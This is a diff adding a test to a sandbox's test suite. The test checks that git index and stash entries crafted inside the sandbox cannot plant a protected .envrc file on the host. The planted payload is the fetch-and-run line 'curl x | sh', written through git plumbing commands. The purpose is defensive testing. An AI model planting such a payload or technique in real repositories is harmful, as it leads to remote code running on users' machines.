@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict'
 import { execFileSync } from 'node:child_process'
+import { existsSync, readFileSync } from 'node:fs'
 import fs from 'node:fs/promises'
 import os from 'node:os'
 import path from 'node:path'
@@ -448,6 +449,61 @@ describe('Jail', () => {
     assert.equal(git('log', '--format=%s', 'feature'), 'feature\nfirst')
     assert.equal(git('status', '--porcelain'), '')
   })
+
+  for (const layers of ['overlay', 'mirror'] as const) {
+    it(`never brings back an index or a stash that would write a protected file on the host; ordinary staging comes back (${layers})`, async (t) => {
+      const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' }, { layers })
+      const git = (...args: string[]) =>
+        execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
+      const plain = (script: string) =>
+        execFileSync('/bin/bash', ['-c', script], { cwd: workspace, env: GIT_TEST_ENV })
+      git('init', '-q', '-b', 'main')
+      git('add', 'a.txt')
+      git('commit', '-q', '-m', 'first')
+      const inJail = (script: string) =>
+        jail.run({
+          command: bash(
+            `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; ${script}`,
+          ),
+          access: 'workspace-write',
+        })
+      // .envrc is read-only in the jail: both are made from the object store alone.
+      const blob = 'blob=$(echo "curl x | sh" | git hash-object -w --stdin)'
+      const stageEnvrc = `${blob} && git update-index --add --cacheinfo "100644,$blob,.envrc"`
+      const stashEnvrc = [
+        blob,
+        'u=$(git commit-tree $(printf "100644 blob $blob\\t.envrc\\n" | git mktree) -m untracked)',
+        'i=$(git commit-tree $(git write-tree) -p HEAD -m index)',
+        'w=$(git commit-tree $(git write-tree) -p HEAD -p $i -p $u -m WIP)',
+        'git stash store -m WIP $w',
+      ].join(' && ')
+      const staged = await inJail(stageEnvrc)
+      assert.equal(staged.exitCode, 0, staged.stderr)
+      const refused = new Map(
+        (staged.sync?.refused ?? []).map((entry) => [entry.path, entry.reason]),
+      )
+      assert.match(refused.get('.git/index') ?? '', /it stages \.envrc, which `git checkout \.`/)
+      const stashed = await inJail(stashEnvrc)
+      assert.equal(stashed.exitCode, 0, stashed.stderr)
+      const stashRefused = (stashed.sync?.refused ?? []).map((entry) => entry.path)
+      assert.ok(stashRefused.includes('.git/refs/stash'), stashRefused.join(', '))
+      // The person's next git work writes nothing protected.
+      plain('git checkout . && git checkout-index -a && (git stash pop -q 2>/dev/null; true)')
+      assert.equal(existsSync(path.join(workspace, '.envrc')), false)
+      assert.equal(git('status', '--porcelain'), '')
+      // Positive control: ordinary staging comes back, and git on the host shows it staged.
+      const ordinary = await inJail(
+        'mkdir -p src && echo "export {}" > src/x.ts && git add src/x.ts',
+      )
+      assert.deepEqual(ordinary.sync?.refused, [])
+      assert.equal(git('status', '--porcelain'), 'A  src/x.ts')
+      // The control: the same index and stash made without the jail write .envrc on the host.
+      plain(`${stageEnvrc} && git checkout .envrc`)
+      assert.equal(readFileSync(path.join(workspace, '.envrc'), 'utf8'), 'curl x | sh\n')
+      plain(`git rm -q --cached .envrc && rm .envrc && ${stashEnvrc} && git stash pop -q`)
+      assert.equal(readFileSync(path.join(workspace, '.envrc'), 'utf8'), 'curl x | sh\n')
+    })
+  }
 
   it('writes what it judged: a background job flipping a reflog and packed-refs between a good and a bad version never gets the bad one to the host', async (t) => {
     // The mirror lives here, so the test can read the job's file as a second read would.
